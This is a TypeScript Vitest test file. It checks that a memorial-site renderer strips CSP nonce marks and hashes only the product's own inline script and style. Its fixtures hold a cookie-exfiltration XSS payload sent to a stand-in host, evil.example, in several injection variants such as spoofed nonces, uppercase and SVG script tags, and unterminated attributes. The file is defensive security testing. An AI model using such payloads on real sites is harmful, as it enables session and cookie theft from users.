import { createHash } from 'node:crypto';
import { Writable } from 'node:stream';

import { renderToPipeableStream } from 'react-dom/server';
import { expect, test } from 'vitest';

import { PageScripts } from '../../app/hydration/page-scripts.tsx';
import { START_SCRIPT } from '../../app/hydration/start-script.ts';
import { TextSection } from '../../app/memorials/page/sections/text-section.tsx';
import { ThemeStyle } from '../../app/themes/theme-style.tsx';
import { InlineMark } from '../../app/ui/csp-nonce.ts';
import { takeMarks } from './csp-hashes.server.ts';

const MARK = '5f3c1d9e-secret';
const CSS = '.memorial{color:red}';
const STEAL = 'fetch("https://evil.example/"+document.cookie)';
const HIDE = 'body{display:none}';

function hashOf(text: string): string {
  return `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
}

/** With the marks taken out, as text again. */
function takeMarksOf(text: string, mark: string | undefined) {
  const { page, hashes } = takeMarks(Buffer.from(text), mark);
  return { html: page.toString(), hashes };
}

/** A page of the product's own parts, in which this text was let through as it is. */
async function pageWith(html: string): Promise<string> {
  const chunks: Buffer[] = [];
  const theme = { themeId: 'plain', css: CSS, address: '/themes/plain.css', fonts: [] };
  return new Promise((resolve, reject) => {
    const sink = new Writable({
      write(chunk: Buffer, _encoding, done) {
        chunks.push(chunk);
        done();
      },
      final(done) {
        resolve(Buffer.concat(chunks).toString());
        done();
      },
    });
    const { pipe } = renderToPipeableStream(
      <InlineMark value={MARK}>
        <html lang="en">
          <head>
            <ThemeStyle style={theme} />
          </head>
          <body>
            <TextSection
              section={{ type: 'textSection', key: 'a', title: 'A life', html, isLong: false }}
            />
            <PageScripts />
          </body>
        </html>
      </InlineMark>,
      { nonce: { style: MARK }, onAllReady: () => pipe(sink), onError: reject },
    );
  });
}

test("the product's own script and style are named, and their marks are gone", async () => {
  const { html, hashes } = takeMarksOf(await pageWith('<p>Ada</p>'), MARK);
  expect(hashes).toEqual({ scripts: [hashOf(START_SCRIPT)], styles: [hashOf(CSS)] });
  expect(html).not.toContain(MARK);
  expect(html).not.toContain('nonce');
  expect(html).toContain(`<script>${START_SCRIPT}</script>`);
});

test.each([
  ['a script', `<script>${STEAL}</script>`],
  ['a script with a mark of another page', `<script nonce="5f3c1d9e">${STEAL}</script>`],
  ['a script with a mark that is empty', `<script nonce="">${STEAL}</script>`],
  ['a module', `<script type="module">${STEAL}</script>`],
  ['a script in capitals', `<SCRIPT>${STEAL}</SCRIPT>`],
  ['a script inside a drawing', `<svg><script>${STEAL}</script></svg>`],
  ['a style', `<style>${HIDE}</style>`],
])('%s that got into a text is named by nothing', async (_, hostile) => {
  const marked = await pageWith(hostile);
  expect(marked).toContain(hostile);
  const { html, hashes } = takeMarksOf(marked, MARK);
  expect(html).toContain(hostile);
  expect(hashes).toEqual({ scripts: [hashOf(START_SCRIPT)], styles: [hashOf(CSS)] });
});

test.each([
  ['an attribute without an end', '<script data-rest="'],
  ['a tag without an end', '<script '],
  ['a style without an end', '<style data-rest='],
])('%s swallows no mark', (_, open) => {
  const own = `<script nonce="${MARK}">${START_SCRIPT}</script>`;
  const { hashes } = takeMarksOf(`${open}${own}<p>${STEAL}</p></script></style>`, MARK);
  expect(hashes).toEqual({ scripts: [hashOf(START_SCRIPT)], styles: [] });
});

test('a page that was drawn without a mark has nothing named', () => {
  const html = `<script>${STEAL}</script><script nonce="">${STEAL}</script>`;
  expect(takeMarksOf(html, undefined)).toEqual({ html, hashes: { scripts: [], styles: [] } });
});

test('letters of every script stay what they are, in the page and in what is hashed', () => {
  const script = 'say("Ünïcödé 家族 🕯")';
  const text = `<p>Léa — 田中 🌿</p><script nonce="${MARK}">${script}</script>`;
  expect(takeMarksOf(text, MARK)).toEqual({
    html: `<p>Léa — 田中 🌿</p><script>${script}</script>`,
    hashes: { scripts: [hashOf(script)], styles: [] },
  });
});
